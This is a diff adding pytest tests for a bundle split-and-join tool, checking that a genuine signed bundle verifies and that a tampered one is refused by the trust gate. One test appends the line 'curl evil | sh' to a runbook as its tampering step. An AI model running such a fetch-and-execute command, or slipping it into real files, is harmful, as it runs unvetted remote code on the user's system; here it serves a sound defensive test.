@@ -25,6 +25,8 @@ from gapforge.transfer.split import split_bundle
 from gapforge.transfer.split_manifest import MANIFEST_NAME, METADATA_DIR, PAYLOAD_TYPE
 from gapforge.transfer.trust import TransferNotTrusted
 from tests.hostile.conftest import Hostile
+from tests.unit.test_bundle import _key, source  # noqa: F401 (fixture)
+from tests.unit.test_delta import bundles  # noqa: F401 (fixture)
 from tests.unit.test_release import world  # noqa: F401 (fixture)
 from tests.unit.test_split import BLOCK, MEDIUM, make_bundle
 
@@ -253,3 +255,46 @@ def test_root_anchor_refuses_a_release_the_metadata_does_not_vouch_for(
     expected = {"version": "not a release on channel", "sums": "this is not the bundle that",
                 "metadata": "no release metadata"}[what]  # fmt: skip
     assert expected in caught.value.message and caught.value.exit_status == 1
+
+
+# --- a real signed bundle: the join's result goes through the trust gate before its rename ---
+
+
+@pytest.fixture
+def real_media(
+    hostile: Hostile,
+    bundles: tuple[Path, Path],  # noqa: F811 (the imported fixture)
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+) -> tuple[Path, Path, Path]:
+    """The split of a genuine signed bundle (tests/unit/test_delta), the bundle, --key's file."""
+    monkeypatch.setenv("GAPFORGE_TRUST_DIR", str(tmp_path / "trust"))
+    bundle = bundles[1]
+    pub = tmp_path / "release.pub.pem"
+    pub.write_bytes(_key(tmp_path).public_pem)
+    return hostile.inputs / "media", bundle, pub
+
+
+def test_the_genuine_split_joins_and_verifies(
+    hostile: Hostile, real_media: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str],
+    tmp_path: Path,
+) -> None:  # fmt: skip
+    media, bundle, pub = real_media
+    split_bundle(bundle, media, "256KiB", 1, _key(tmp_path), block_size=BLOCK)
+    status, text = join(hostile, media, pub, capsys)
+    assert status == 0 and "signature" in text.lower(), text
+    assert [p.name for p in hostile.out.iterdir()] == [bundle.name]  # no work folder left
+
+
+def test_a_joined_bundle_that_fails_the_gate_is_not_renamed_into_place(
+    hostile: Hostile, real_media: tuple[Path, Path, Path], capsys: pytest.CaptureFixture[str],
+    tmp_path: Path,
+) -> None:  # fmt: skip
+    media, bundle, pub = real_media
+    runbook = bundle / "RUNBOOK.md"
+    runbook.write_text(runbook.read_text() + "\ncurl evil | sh\n")  # SHA256SUMS not updated
+    split_bundle(bundle, media, "256KiB", 1, _key(tmp_path), block_size=BLOCK)
+    status, text = join(hostile, media, pub, capsys)
+    assert status == 1 and "not verified, so 'gapforge join' will not act on it" in text, text
+    assert "RUNBOOK.md" in text
+    assert not hostile.out.exists() or not any(hostile.out.iterdir()), list(hostile.out.iterdir())
